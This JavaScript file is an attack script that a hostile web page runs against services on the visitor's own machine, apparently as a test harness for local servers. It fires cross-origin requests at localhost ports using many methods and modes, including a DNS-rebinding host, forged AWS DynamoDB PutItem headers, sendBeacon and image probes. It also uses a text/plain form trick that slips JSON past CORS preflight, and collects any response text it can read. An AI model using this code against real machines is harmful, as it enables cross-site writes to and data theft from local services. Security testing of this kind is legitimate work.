/** Runs in the attacker's page: tries every way a page has to send something, and returns what it could read of the answers. */
globalThis.fire = async function fire(shots) {
  const byPort = Map.groupBy(shots, ({ port }) => port)
  const read = await Promise.all([...byPort.values()].map(fireAtOnePort))
  return read.flat()
}

const PATIENCE_MS = 5_000

async function fireAtOnePort(shots) {
  const read = []
  for (const { port, path, body } of shots) {
    for (const host of ['127.0.0.1', 'localhost', 'rebound.example']) {
      read.push(...(await fireAt(`http://${host}:${port}${path}`, body)))
    }
    submit(`http://127.0.0.1:${port}${path}`, body)
    await pause(300)
  }
  return read
}

async function fireAt(url, body) {
  const json = { 'content-type': 'application/json' }
  const signed = { authorization: 'AWS4-HMAC-SHA256 Credential=local/20260105/eu-central-1/dynamodb/aws4_request' }
  const ways = [
    { method: 'GET' },
    { method: 'POST', body },
    { method: 'POST', body, credentials: 'include' },
    { method: 'POST', body, headers: json },
    { method: 'POST', body, headers: { ...signed, 'x-amz-target': 'DynamoDB_20120810.PutItem' } },
    { method: 'DELETE' },
    { method: 'GET', mode: 'no-cors' },
    { method: 'POST', body, mode: 'no-cors' },
  ]
  const texts = await Promise.all(ways.map((way) => textOf(url, way)))
  navigator.sendBeacon(url, body)
  const read = texts.flatMap((text, at) => (text === '' ? [] : [`${ways[at].method} ${url}: ${text.slice(0, 80)}`]))
  return (await showsImage(url)) ? [...read, `image ${url}`] : read
}

async function textOf(url, way) {
  try {
    return await (await fetch(url, { ...way, signal: AbortSignal.timeout(PATIENCE_MS) })).text()
  } catch {
    return ''
  }
}

function showsImage(url) {
  return new Promise((resolve) => {
    const image = new Image()
    image.onload = () => resolve(true)
    image.onerror = () => resolve(false)
    setTimeout(() => resolve(false), PATIENCE_MS)
    image.src = url
  })
}

/** A form of text/plain writes "name=value", which is JSON when the sign of equality stands in a string. */
function submit(action, body) {
  const form = document.createElement('form')
  Object.assign(form, { method: 'POST', action, target: 'sink', enctype: 'text/plain' })
  const field = document.createElement('input')
  Object.assign(field, { name: `${body.slice(0, -1)}, "x": "`, value: '"}' })
  form.append(field)
  document.body.append(form)
  form.submit()
}

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
